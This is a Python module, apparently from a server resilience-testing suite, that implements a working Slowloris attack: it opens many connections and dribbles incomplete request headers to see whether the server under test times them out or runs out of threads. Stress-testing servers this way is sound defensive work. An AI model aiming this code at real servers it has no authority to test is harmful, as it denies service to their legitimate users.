"""Slowloris: many connections each dribbling a request's headers a few bytes at a time.

A server that gives every connection a thread and no header timeout runs out of threads
(or memory); a good one times the headers out (HTTP 408 or a close) or simply keeps serving
others. The canary and the RSS judge; the answers say which connections the server dropped.
"""

from __future__ import annotations

import socket
import time

from faultlab.suites.hostile._net import HELD, peer_gone, read_answer, send_all
from faultlab.suites.hostile.base import Attack, AttackContext, AttackReport

__all__ = ["SLOWLORIS"]


def _opening(ctx: AttackContext) -> tuple[bytes, bytes]:
    """(sent at once, then dribbled forever): a request head that never ends."""
    wire = ctx.wire
    if wire.http:
        head = f"GET {wire.path} HTTP/1.1\r\nHost: {wire.host}\r\n".encode()
        return head, b"X-Dribble-%d: a\r\n"
    if wire.kind == "h2":
        return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\x00"
    frame = wire.frame(wire.body("slowloris" * 200))
    return frame[:2], frame[2:]


def run(ctx: AttackContext) -> AttackReport:
    report = AttackReport()
    limits = ctx.limits
    first, rest = _opening(ctx)
    with ctx.sockets() as socks:
        live: list[socket.socket] = []
        for _ in range(limits.slowloris_connections):
            if ctx.over():
                break
            try:
                sock = socks.connect()
            except OSError as exc:
                report.counts["connect_failed"] += 1
                report.answer("refused", type(exc).__name__)
                continue
            if send_all(sock, first, limits.connect_timeout) is None:
                live.append(sock)
                report.counts["connections"] += 1
        deadline = time.monotonic() + limits.slowloris_duration
        step = 0
        while live and time.monotonic() < deadline and not ctx.wait(limits.dribble_interval):
            for sock in list(live):
                gone = peer_gone(sock)
                piece = (
                    rest % step if b"%d" in rest else rest[step % len(rest) : step % len(rest) + 1]
                )
                if gone is None and send_all(sock, piece, 0.2) is None:
                    report.counts["bytes_dribbled"] += len(piece)
                    continue
                if gone == "answered":  # a 408, say: read which
                    gone = read_answer(sock, 0.2, http=ctx.wire.http)
                report.answer(gone or "close", "headers dribbled")
                live.remove(sock)
                socks.discard(sock)
            step += 1
        for sock in live:
            report.answer(peer_gone(sock) or HELD)
    return report


SLOWLORIS = Attack("slowloris", False, run, __doc__ or "")
